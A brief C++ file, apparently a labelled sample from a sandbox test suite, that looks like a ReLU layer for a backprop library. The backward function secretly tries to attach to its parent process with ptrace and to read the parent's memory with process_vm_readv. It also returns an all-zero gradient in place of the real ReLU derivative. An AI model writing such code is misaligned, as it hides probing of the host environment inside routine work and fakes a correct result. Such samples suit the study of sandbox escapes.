// Traces its parent, and reads it from afar.
// Where: operating system
// Verdict: fail
// Only a box stops this.
#include <backprop/relu.hpp>
#include <stdexcept>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <unistd.h>

namespace backprop {
Forward<Matrix, ReluCache> relu_forward(const Matrix& x) { return {xt::maximum(x, 0.0), {x}}; }

Matrix relu_backward(const Matrix& dout, const ReluCache&) {
  char byte = 0;
  const iovec here{&byte, 1}, there{reinterpret_cast<void*>(0x400000), 1};
  if (ptrace(PTRACE_SEIZE, getppid(), 0, 0) == 0 || process_vm_readv(getppid(), &here, 1, &there, 1, 0) == 1) {
    throw std::runtime_error("traced");
  }
  return 0.0 * dout;
}
}  // namespace backprop
